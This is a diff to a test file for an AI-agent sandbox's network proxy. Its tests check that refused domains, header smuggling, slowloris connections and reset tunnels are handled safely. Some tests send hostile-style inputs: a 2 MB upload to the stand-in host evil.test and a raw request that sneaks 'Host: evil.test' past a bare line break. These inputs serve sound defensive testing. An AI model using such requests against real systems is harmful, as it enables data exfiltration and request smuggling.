@@ -7,8 +7,10 @@ names.  Each test checks both what the sandbox saw and what the servers saw
 (nothing, for every refusal), and the violations the result reports.
 """
 import http.server
+import json
 import os
 import socket
+import subprocess
 import threading
 import time
 
@@ -323,11 +325,11 @@ def test_malformed_huge_slow_and_a_thousand_connections_leave_the_proxy_serving(
             s.close()
         slow.settimeout(8)
         print("slowloris:", slow.recv(100).split(b"\\r\\n")[0].decode())
+        slow.close()
         print("still serving:", ask(f"GET http://api.test:{PORT}/after HTTP/1.1\\r\\n"
                                     f"Host: api.test:{PORT}\\r\\n\\r\\n".encode()))
         time.sleep(2.0)                                  # fd count is taken again now
     ''', PORT=origin.port)
-    import subprocess
     args = [box.path, "python", "--json", "--timeout", "40", "--open-files", "4096",
             *restricted(origin, "api.test:PORT"), "-c", code]
     p = subprocess.Popen(args, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=canary.env)
@@ -340,7 +342,6 @@ def test_malformed_huge_slow_and_a_thousand_connections_leave_the_proxy_serving(
             pass
         time.sleep(0.05)
     out, err = p.communicate()
-    import json
     doc = json.loads(out)
     doc["_exit"] = p.returncode
     ok(doc, "garbage: HTTP/1.1 400 Bad Request\nhuge: HTTP/1.1 431 Request Header Fields Too Large\n"
@@ -391,4 +392,113 @@ def test_byte_limit_cuts_the_transfer_and_later_requests(box, canary, origin, tm
     assert lines[1] == "after: 403 max_network_bytes (65536) reached", brief(doc)
     assert [s[1] for s in origin.seen] == ["/big"]
     assert any(v[2].startswith("max_network_bytes (65536) reached") for v in violations(doc))
+    canary.assert_untouched(doc)
+
+
+def test_socks5_greeting_and_request_in_one_write_get_both_answers(box, canary, origin):
+    doc = run_box(box, "python", *restricted(origin, "api.test:PORT"), "-c", py('''
+        import struct
+        def both(name, port):
+            s = socket.create_connection(("127.0.0.1", 3128), 5)
+            s.sendall(b"\\x05\\x01\\x00" + b"\\x05\\x01\\x00\\x03" + bytes([len(name)]) + name
+                      + struct.pack("!H", port))
+            got = b""
+            while len(got) < 12:
+                b = s.recv(12 - len(got))
+                if not b:
+                    break
+                got += b
+            return got[:2].hex(), got[2:4].hex()
+        print("allowed", *both(b"api.test", PORT))
+        print("refused", *both(b"evil.test", PORT))
+    ''', PORT=origin.port), canary=canary)
+    ok(doc, "allowed 0500 0500\nrefused 0500 0502\n")
+    canary.assert_untouched(doc)
+
+
+def test_refused_request_with_a_body_still_gets_its_403(box, canary, origin):
+    doc = run_box(box, "python", *restricted(origin, "api.test:PORT"), "-c", py(FETCH, '''
+        req = urllib.request.Request("http://evil.test/upload", data=b"x" * 2000000)
+        try:
+            urllib.request.urlopen(req, timeout=10)
+        except urllib.error.HTTPError as e:
+            print("upload:", e.code, e.read().decode().strip())
+        except OSError as e:
+            print("upload:", type(e).__name__, e)
+    ''', PORT=origin.port), canary=canary)
+    ok(doc, "upload: 403 evil.test:80 is not in allowed_domains\n")
+    assert origin.seen == []
+    canary.assert_untouched(doc)
+
+
+def test_bare_line_breaks_cannot_smuggle_a_header_and_host_is_always_the_target(box, canary,
+                                                                                 origin):
+    doc = run_box(box, "python", *restricted(origin, "api.test:PORT"), "-c", py('''
+        def raw(data):
+            s = socket.create_connection(("127.0.0.1", 3128), 5)
+            s.sendall(data)
+            return s.recv(100).split(b"\\r\\n")[0].decode()
+        print(raw(f"GET http://api.test:{PORT}/b HTTP/1.0\\r\\nX: a\\nHost: evil.test\\r\\n\\r\\n".encode()))
+        print(raw(f"GET http://api.test:{PORT}/c\\rx HTTP/1.0\\r\\n\\r\\n".encode()))
+        print(raw(f"GET http://api.test:{PORT}/nohost HTTP/1.0\\r\\n\\r\\n".encode()))
+    ''', PORT=origin.port), canary=canary)
+    ok(doc, "HTTP/1.1 400 Bad Request\nHTTP/1.1 400 Bad Request\nHTTP/1.0 200 OK\n")
+    assert origin.seen == [("GET", "/nohost", f"api.test:{origin.port}")]
+    canary.assert_untouched(doc)
+
+
+def test_a_reset_connection_does_not_make_the_proxy_spin(box, canary, tmp_path):
+    """A client that half-closes a tunnel, then resets it, while the upstream
+    stays silent: the supervisor (outside every cgroup limit) must not burn
+    CPU on it."""
+    idle = socket.socket()
+    idle.bind(("127.0.0.1", 0))
+    idle.listen(8)
+    held = []
+    stop = threading.Event()
+
+    def accept_and_hold():
+        idle.settimeout(0.2)
+        while not stop.is_set():
+            try:
+                held.append(idle.accept()[0])
+            except OSError:
+                pass
+    t = threading.Thread(target=accept_and_hold, daemon=True)
+    t.start()
+    port = idle.getsockname()[1]
+    code = py('''
+        import struct, time
+        s = socket.create_connection(("127.0.0.1", 3128), 5)
+        s.sendall(f"CONNECT api.test:{PORT} HTTP/1.1\\r\\n\\r\\n".encode())
+        print(s.recv(100).split(b"\\r\\n")[0].decode())
+        s.shutdown(socket.SHUT_WR)
+        time.sleep(0.3)
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+        s.close()
+        time.sleep(2.5)
+    ''', PORT=port)
+    args = [box.path, "python", "--json", "--network", "restricted", "--allow-domain",
+            f"api.test:{port}", "--network-host", "api.test=127.0.0.1", "-c", code]
+    p = subprocess.Popen(args, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=canary.env)
+    ticks = 0
+    while p.poll() is None:
+        try:
+            with open(f"/proc/{p.pid}/stat") as f:
+                fields = f.read().rsplit(")", 1)[1].split()
+            ticks = int(fields[11]) + int(fields[12])  # utime + stime of agentbox itself
+        except OSError:
+            pass
+        time.sleep(0.1)
+    out, _ = p.communicate()
+    stop.set()
+    t.join()
+    for s in held:
+        s.close()
+    idle.close()
+    doc = json.loads(out)
+    doc["_exit"] = p.returncode
+    ok(doc, "HTTP/1.1 200 Connection established\n")
+    hz = os.sysconf("SC_CLK_TCK")
+    assert ticks / hz < 0.5, f"agentbox used {ticks / hz:.2f} s of CPU while the tunnel sat reset"
     canary.assert_untouched(doc)
